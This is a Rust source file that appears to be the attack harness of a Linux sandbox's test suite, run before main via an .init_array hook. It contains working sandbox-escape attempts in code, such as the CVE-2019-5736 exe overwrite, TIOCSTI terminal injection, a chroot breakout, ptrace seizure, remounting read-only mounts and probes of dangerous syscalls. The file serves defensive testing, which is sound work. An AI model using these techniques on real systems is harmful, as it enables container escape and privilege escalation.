//! The attacks. This test binary is also the program that carries them out: it finds `RINGFENCE_ATTACK` in its environment,
//! does what the variable says, and never gets to its tests.

use std::ffi::CString;
use std::fs::{self, File};
use std::io::{self, Read, Write};
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

use nix::errno::Errno;

#[used]
#[unsafe(link_section = ".init_array")]
static BEFORE_MAIN: extern "C" fn() = before_main;

extern "C" fn before_main() {
    let Some(what) = std::env::var_os("RINGFENCE_ATTACK") else { return };
    let what = what.to_string_lossy().into_owned();
    let words: Vec<&str> = what.split(' ').collect();
    match words[0] {
        "overwrite-exe" => overwrite_exe(words[1]),
        "peek" => peek(),
        "kill" => kill(&words[1..]),
        "seize" => seize(),
        "open-write" => open_write(&words[1..]),
        "read" => read(&words[1..]),
        "same-mode" => same_mode(words[1]),
        "exists" => exists(&words[1..]),
        "terminal" => terminal(),
        "calls" => calls(),
        "limits" => limits(),
        "streams" => streams(),
        "nodes" => nodes(words[1]),
        "chroot-naive" => chroot_naive(words[1], words[2]),
        "below" => below(),
        "remount" => remount(words[1]),
        "nested-remount" => nested_remount(words[1]),
        "fill" => fill(words[1]),
        "mounts" => mounts(words[1]),
        "user-ns" => user_ns(),
        "setgroups" => setgroups(),
        "sockets" => sockets(),
        "in-flight" => crate::ids::in_flight(words[1].parse().unwrap()),
        "pipes" => crate::ids::pipes(),
        "pipe" => crate::ids::one_pipe(),
        "leave-project" => crate::disk_limit::leave_project(words[1]),
        "shm" => shm(words[1].parse().unwrap()),
        "whoami" => say("euid", Ok(nix::unistd::geteuid())),
        "write" => say_write(words[1], fs::write(words[1], "attacked")),
        "take" => crate::take::run(&words[1..]),
        other => crate::caller::run(other, &words[1..]),
    }
    let _ = io::stdout().flush();
    std::process::exit(0);
}

/// An errno by its name.
pub fn errno(error: &io::Error) -> String {
    error.raw_os_error().map_or_else(|| error.to_string(), |number| format!("{:?}", Errno::from_raw(number)))
}

pub fn say<T: std::fmt::Display>(name: &str, result: io::Result<T>) {
    match result {
        Ok(value) if value.to_string().is_empty() => println!("{name}=ok"),
        Ok(value) => println!("{name}={value}"),
        Err(error) => println!("{name}={}", errno(&error)),
    }
}

/// A result without a value, to be said.
fn done<T>(result: io::Result<T>) -> io::Result<&'static str> {
    result.map(|_| "ok")
}

fn say_write(name: &str, result: io::Result<()>) {
    say(name, done(result));
}

/// A raw system call whose arguments are numbers, or addresses of what lives across it.
pub fn call(number: libc::c_long, args: [usize; 6]) -> io::Result<i64> {
    // SAFETY: the attacks pass numbers, null, or places that outlive the call.
    let result = unsafe { libc::syscall(number, args[0], args[1], args[2], args[3], args[4], args[5]) };
    if result == -1 { Err(io::Error::last_os_error()) } else { Ok(result) }
}

/// CVE-2019-5736: keeps the program of another process open until that has ended, then opens it for writing.
fn overwrite_exe(pid: &str) {
    let exe = match File::open(format!("/proc/{pid}/exe")) {
        Ok(exe) => exe,
        Err(error) => return say::<&str>("write", Err(error)),
    };
    // SAFETY: no memory is involved.
    let seals = unsafe { libc::fcntl(exe.as_raw_fd(), libc::F_GET_SEALS) };
    println!("sealed={}", seals > 0 && seals & libc::F_SEAL_WRITE != 0);
    println!("opened=yes");
    let _ = io::stdout().flush();
    let path = format!("/proc/self/fd/{}", exe.as_raw_fd());
    let until = Instant::now() + Duration::from_secs(2);
    loop {
        match File::options().write(true).open(&path) {
            // It runs still.
            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < until => {
                std::thread::sleep(Duration::from_millis(5));
            }
            result => return say_write("write", result.and_then(|mut file| file.write_all(b"attacked"))),
        }
    }
}

/// Looks into every process of the sandbox, for a second; says what those show that are on their way in, and those that have
/// arrived.
fn peek() {
    let until = Instant::now() + Duration::from_millis(1500);
    let (mut coming, mut arrived) = (Vec::new(), Vec::new());
    let own = std::process::id().to_string();
    println!("ready=yes");
    let _ = io::stdout().flush();
    while Instant::now() < until {
        for entry in fs::read_dir("/proc").unwrap().flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if name == own || name == "1" || !name.bytes().all(|b| b.is_ascii_digit()) {
                continue;
            }
            let is_stub = || fs::read_to_string(entry.path().join("comm")).map(|comm| comm.starts_with("ringfence"));
            let before = is_stub();
            let answer = match fs::read_link(entry.path().join("fd/0")) {
                Ok(_) => "seen".to_owned(),
                Err(error) => errno(&error),
            };
            // Only what is the same before and after the look was that then.
            let list = match (before, is_stub()) {
                (Ok(true), Ok(true)) => &mut coming,
                (Ok(false), Ok(false)) => &mut arrived,
                _ => continue,
            };
            if !list.contains(&answer) {
                list.push(answer);
            }
        }
    }
    println!("coming={}\narrived={}", coming.join(","), arrived.join(","));
}

/// Seizes every process of the sandbox as soon as it appears, until stdin ends; says what capabilities they had, what those
/// on their way in had open, and how many there were.
fn seize() {
    let capabilities = |pid: &str| {
        let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
        let sets =
            ["CapPrm:", "CapEff:"].iter().filter_map(|name| status.lines().find_map(|line| line.strip_prefix(name)));
        sets.filter_map(|set| u64::from_str_radix(set.trim(), 16).ok()).fold(0, |all, set| all | set)
    };
    let own = std::process::id().to_string();
    println!("own={:x}", capabilities(&own));
    let _ = io::stdout().flush();
    let ends = std::thread::spawn(|| io::stdin().read(&mut [0]));
    let open = |pid: &str| {
        let is_stub =
            || fs::read_to_string(format!("/proc/{pid}/comm")).is_ok_and(|comm| comm.starts_with("ringfence"));
        let links = |dir: fs::ReadDir| dir.flatten().filter_map(|entry| fs::read_link(entry.path()).ok()).collect();
        let found: Vec<std::path::PathBuf> = fs::read_dir(format!("/proc/{pid}/fd")).map(links).unwrap_or_default();
        let kind = |link: &std::path::PathBuf| link.to_string_lossy().split(':').next().unwrap_or_default().to_owned();
        if is_stub() { found.iter().map(kind).collect() } else { Vec::new() }
    };
    let mut files = std::collections::BTreeSet::new();
    let (mut seized, mut held) = (0, 0);
    while !ends.is_finished() {
        for entry in fs::read_dir("/proc").unwrap().flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            let Ok(pid) = name.parse::<i32>() else { continue };
            // SAFETY: no memory is involved.
            if name != own && unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) } == 0 {
                seized += 1;
                held |= capabilities(&name);
                files.extend(open(&name));
            }
        }
        let mut status = 0;
        loop {
            // SAFETY: `status` is a place for the status.
            let pid = unsafe { libc::waitpid(-1, &raw mut status, libc::__WALL | libc::WNOHANG) };
            if pid <= 0 {
                break;
            }
            if libc::WIFSTOPPED(status) {
                // SAFETY: no memory is involved.
                unsafe { libc::ptrace(libc::PTRACE_CONT, pid, 0, 0) };
            }
        }
    }
    println!("seized={seized}\nheld={held:x}\nopen={}", files.into_iter().collect::<Vec<_>>().join(","));
}

/// Signals processes by the numbers that they have outside.
fn kill(pids: &[&str]) {
    for pid in pids {
        let number: i32 = pid.parse().unwrap();
        // SAFETY: no memory is involved.
        say_write(pid, Errno::result(unsafe { libc::kill(number, libc::SIGTERM) }).map(drop).map_err(io::Error::from));
    }
}

fn open_write(paths: &[&str]) {
    for path in paths {
        say_write(path, File::options().write(true).open(path).map(drop));
    }
}

/// Gives a file the mode that it has.
fn same_mode(path: &str) {
    let mode = fs::metadata(path).unwrap().permissions();
    say_write("chmod", fs::set_permissions(path, mode));
}

/// Takes the root away, and looks at what it was mounted on.
fn below() {
    let own = File::open("/proc/self/ns/mnt").unwrap();
    say_write(
        "umount",
        call(libc::SYS_umount2, [c"/".as_ptr() as usize, libc::MNT_DETACH as usize, 0, 0, 0, 0]).map(drop),
    );
    let again = [own.as_raw_fd() as usize, libc::CLONE_NEWNS as usize, 0, 0, 0, 0];
    say_write("setns", call(libc::SYS_setns, again).map(drop));
    say_write("upper", fs::metadata("/upper").map(drop));
    say_write("write", fs::write("/upper/attacked", ""));
}

/// How much there is to read, a megabyte at most; of a directory, how many entries.
fn read(paths: &[&str]) {
    for path in paths {
        let size = File::open(path).and_then(|file| {
            if file.metadata()?.is_dir() {
                return fs::read_dir(path).map(Iterator::count);
            }
            file.take(1 << 20).read_to_end(&mut Vec::new())
        });
        say(path, size);
    }
}

fn exists(paths: &[&str]) {
    for path in paths {
        say(path, Ok(fs::metadata(path).is_ok()));
    }
}

/// CVE-2017-5226: makes the terminal on stdin its own, and types into it.
fn terminal() {
    let ioctl = |request: u64, arg: usize| call(libc::SYS_ioctl, [0, request as usize, arg, 0, 0, 0]);
    say("own", ioctl(libc::TIOCSCTTY, 0));
    let byte = b'x';
    let place = &raw const byte as usize;
    say("TIOCSTI", ioctl(libc::TIOCSTI, place));
    // The kernel reads the lower half only (CVE-2019-7303).
    say("high", ioctl(libc::TIOCSTI | 1 << 32, place));
    const TIOCLINUX: u64 = 0x541c;
    let paste = 3u8;
    say("TIOCLINUX", ioctl(TIOCLINUX, &raw const paste as usize));
}

/// Calls that have led out of sandboxes, with arguments that do no harm where they are allowed.
fn calls() {
    let (bad, empty) = (usize::MAX, c"".as_ptr() as usize);
    let name = c"ringfence-no-such".as_ptr() as usize;
    let own = std::process::id() as usize;
    let all: [(&str, libc::c_long, [usize; 6]); 26] = [
        ("io_uring_setup", libc::SYS_io_uring_setup, [1, 0, 0, 0, 0, 0]),
        ("bpf", libc::SYS_bpf, [0, 0, 0, 0, 0, 0]),
        ("userfaultfd", libc::SYS_userfaultfd, [0xffff, 0, 0, 0, 0, 0]),
        ("keyctl", libc::SYS_keyctl, [9999, 0, 0, 0, 0, 0]),
        ("add_key", libc::SYS_add_key, [0, 0, 0, 0, 0, 0]),
        ("perf_event_open", libc::SYS_perf_event_open, [0, 0, 0, bad, bad, 0]),
        ("open_by_handle_at", libc::SYS_open_by_handle_at, [bad, 0, 0, 0, 0, 0]),
        ("kexec_load", libc::SYS_kexec_load, [0, 0, 0, 0xffff, 0, 0]),
        ("init_module", libc::SYS_init_module, [0, 0, empty, 0, 0, 0]),
        ("finit_module", libc::SYS_finit_module, [bad, empty, 0, 0, 0, 0]),
        ("ptrace", libc::SYS_ptrace, [libc::PTRACE_ATTACH as usize, 0x7fff_ffff, 0, 0, 0, 0]),
        ("process_vm_readv", libc::SYS_process_vm_readv, [own, 0, 0, 0, 0, 0]),
        ("pidfd_getfd", libc::SYS_pidfd_getfd, [bad, 0, 0, 0, 0, 0]),
        ("mount", libc::SYS_mount, [0, 0, 0, 0, 0, 0]),
        ("fsopen", libc::SYS_fsopen, [name, 0, 0, 0, 0, 0]),
        ("open_tree", libc::SYS_open_tree, [bad, name, 0, 0, 0, 0]),
        ("move_mount", libc::SYS_move_mount, [bad, name, bad, name, 0, 0]),
        ("pivot_root", libc::SYS_pivot_root, [name, name, 0, 0, 0, 0]),
        ("quotactl", libc::SYS_quotactl, [bad, 0, 0, 0, 0, 0]),
        ("swapon", libc::SYS_swapon, [name, 0, 0, 0, 0, 0]),
        ("settimeofday", libc::SYS_settimeofday, [0, 0, 0, 0, 0, 0]),
        ("personality", libc::SYS_personality, [0x0040_0000, 0, 0, 0, 0, 0]),
        ("syslog", libc::SYS_syslog, [9999, 0, 0, 0, 0, 0]),
        ("setns", libc::SYS_setns, [bad, 0, 0, 0, 0, 0]),
        ("chroot", libc::SYS_chroot, [name, 0, 0, 0, 0, 0]),
        ("reboot", libc::SYS_reboot, [0, 0, 0, 0, 0, 0]),
    ];
    for (name, number, args) in all {
        say(name, call(number, args));
    }
}

/// Takes more than the limits of a process give.
fn limits() {
    let core = libc::rlimit { rlim_cur: libc::RLIM_INFINITY, rlim_max: libc::RLIM_INFINITY };
    // SAFETY: the structures and the mapping outlive the calls.
    unsafe {
        let result = |value: i32| Errno::result(value).map(|_| "ok").map_err(io::Error::from);
        let mut files = core;
        libc::getrlimit(libc::RLIMIT_CORE, &raw mut files);
        println!("core={}", files.rlim_max);
        say("raise-core", result(libc::setrlimit(libc::RLIMIT_CORE, &raw const core)));
        say("nice", result(libc::setpriority(libc::PRIO_PROCESS, 0, -5)));
        let rt = libc::sched_param { sched_priority: 1 };
        say("realtime", result(libc::sched_setscheduler(0, libc::SCHED_FIFO, &raw const rt)));
        libc::sched_setscheduler(0, libc::SCHED_OTHER, &raw const rt);
        const IOPRIO_RT: usize = 1 << 13;
        say("ioprio", call(libc::SYS_ioprio_set, [1, 0, IOPRIO_RT, 0, 0, 0]));
        let size = 1 << 20;
        let memory =
            libc::mmap(std::ptr::null_mut(), size, libc::PROT_READ, libc::MAP_PRIVATE | libc::MAP_ANONYMOUS, -1, 0);
        say("mlock", result(libc::mlock(memory, size)));
    }
}

/// Makes device nodes in a directory, and opens them.
fn nodes(dir: &str) {
    // The kernel's log, and zeros.
    for (name, minor) in [("kmsg", 11), ("zero", 5)] {
        let path = format!("{dir}/{name}");
        let text = CString::new(path.as_str()).unwrap();
        // SAFETY: a path with its NUL.
        let made = unsafe { libc::mknod(text.as_ptr(), libc::S_IFCHR | 0o666, libc::makedev(1, minor)) };
        say_write(&format!("mknod-{name}"), Errno::result(made).map(drop).map_err(io::Error::from));
        say_write(&format!("open-{name}"), File::open(&path).map(drop));
    }
}

/// The classic: a directory kept open across chroot(2) is a way back up.
fn chroot_naive(root: &str, marker: &str) {
    let up = File::open("/").unwrap();
    let result = std::os::unix::fs::chroot(root).and_then(|()| {
        nix::unistd::fchdir(&up)?;
        std::os::unix::fs::chroot(".")
    });
    say("marker", result.map(|()| fs::metadata(marker).is_ok()));
}

/// Makes what is read-only writable again, and writes there.
fn remount(at: &str) {
    let path = CString::new(at).unwrap();
    let flags = libc::MS_REMOUNT | libc::MS_BIND;
    // SAFETY: paths with their NUL, and null where nothing is given.
    let result = unsafe { libc::mount(std::ptr::null(), path.as_ptr(), std::ptr::null(), flags, std::ptr::null()) };
    say_write("remount", Errno::result(result).map(drop).map_err(io::Error::from));
    // SAFETY: a path with its NUL.
    let result = unsafe { libc::umount2(path.as_ptr(), libc::MNT_DETACH) };
    say_write("umount", Errno::result(result).map(drop).map_err(io::Error::from));
    say_write("write", fs::write(format!("{at}/attacked"), "x"));
}

/// The same from a user namespace made inside, with every capability in it and a mount namespace of its own.
fn nested_remount(at: &str) {
    let flags = libc::CLONE_NEWUSER | libc::CLONE_NEWNS;
    call(libc::SYS_unshare, [flags as usize, 0, 0, 0, 0, 0]).unwrap();
    remount(at);
}

/// Makes files until there is no more room for another; then one as large as it can be.
fn fill(dir: &str) {
    let mut count = 0u64;
    let error = loop {
        match File::create(format!("{dir}/{count}")) {
            Ok(_) if count < 40_000 => count += 1,
            Ok(_) => break "none".to_owned(),
            Err(error) => break errno(&error),
        }
    };
    println!("files={count}\nends={error}");
    for number in 0..=count {
        let _ = fs::remove_file(format!("{dir}/{number}"));
    }
    let mut file = File::create(format!("{dir}/large")).unwrap();
    let block = vec![1u8; 1 << 20];
    let mut mib = 0;
    while mib < 200 && file.write_all(&block).is_ok() {
        mib += 1;
    }
    println!("mib={mib}");
    let _ = fs::remove_file(format!("{dir}/large"));
}

/// Mounts what would give power: control groups, the kernel's objects, processes, memory.
fn mounts(at: &str) {
    for fstype in ["cgroup2", "tmpfs", "proc"] {
        let (kind, place) = (CString::new(fstype).unwrap(), CString::new(at).unwrap());
        // SAFETY: strings with their NUL.
        let result = unsafe { libc::mount(kind.as_ptr(), place.as_ptr(), kind.as_ptr(), 0, std::ptr::null()) };
        say_write(fstype, Errno::result(result).map(drop).map_err(io::Error::from));
        if result == 0 {
            // SAFETY: a path with its NUL.
            unsafe { libc::umount2(place.as_ptr(), libc::MNT_DETACH) };
        }
    }
}

/// Makes a user namespace, in each way.
fn user_ns() {
    let flag = libc::CLONE_NEWUSER as usize;
    // clone3 first: an unshare that succeeds changes what follows.
    let args = [flag as u64, 0, 0, 0, libc::SIGCHLD as u64, 0, 0, 0];
    let child = |name: &str, result: io::Result<i64>| match result {
        // SAFETY: the child does nothing but end.
        Ok(0) => unsafe { libc::_exit(0) },
        other => say_write(name, other.map(drop)),
    };
    child("clone3", call(libc::SYS_clone3, [args.as_ptr() as usize, size_of_val(&args), 0, 0, 0, 0]));
    child("clone", call(libc::SYS_clone, [flag | libc::SIGCHLD as usize, 0, 0, 0, 0, 0]));
    say_write("unshare", call(libc::SYS_unshare, [flag, 0, 0, 0, 0, 0]).map(drop));
}

fn setgroups() {
    say("setgroups", call(libc::SYS_setgroups, [0, 0, 0, 0, 0, 0]));
    say("file", fs::read_to_string("/proc/self/setgroups").map(|text| text.trim().to_owned()));
}

/// Sockets that lead to the machine, or to its network.
fn sockets() {
    let netfilter = (libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_NETFILTER);
    let all = [
        ("vsock", (libc::AF_VSOCK, libc::SOCK_STREAM, 0)),
        ("packet", (libc::AF_PACKET, libc::SOCK_RAW, 0)),
        ("raw", (libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP)),
        ("netfilter", netfilter),
        ("mptcp", (libc::AF_INET, libc::SOCK_STREAM, libc::IPPROTO_MPTCP)),
        ("mptcp6", (libc::AF_INET6, libc::SOCK_STREAM, libc::IPPROTO_MPTCP)),
        ("sctp", (libc::AF_INET, libc::SOCK_SEQPACKET, 0)),
        ("alg", (libc::AF_ALG, libc::SOCK_SEQPACKET, 0)),
    ];
    for (name, (family, kind, protocol)) in all {
        say_write(name, call(libc::SYS_socket, [family as usize, kind as usize, protocol as usize, 0, 0, 0]).map(drop));
    }
}

/// Looks for a shared memory segment of the host's.
fn shm(key: usize) {
    say_write("shm", call(libc::SYS_shmget, [key, 0, 0, 0, 0, 0]).map(drop));
}

/// Changes what belongs to the owner of each standard stream to what it is already.
fn streams() {
    for number in 0..3usize {
        // SAFETY: the program has its three streams.
        let stat = nix::sys::stat::fstat(unsafe { std::os::fd::BorrowedFd::borrow_raw(number as i32) }).unwrap();
        let change = |name: &str, result: io::Result<i64>| say(&format!("{name}-{number}"), result.map(|_| "done"));
        change("mode", call(libc::SYS_fchmod, [number, stat.st_mode as usize & 0o7777, 0, 0, 0, 0]));
        change("owner", call(libc::SYS_fchown, [number, stat.st_uid as usize, stat.st_gid as usize, 0, 0, 0]));
        let times = [stat.st_atime, stat.st_atime_nsec, stat.st_mtime, stat.st_mtime_nsec];
        change("times", call(libc::SYS_utimensat, [number, 0, times.as_ptr() as usize, 0, 0, 0]));
    }
}
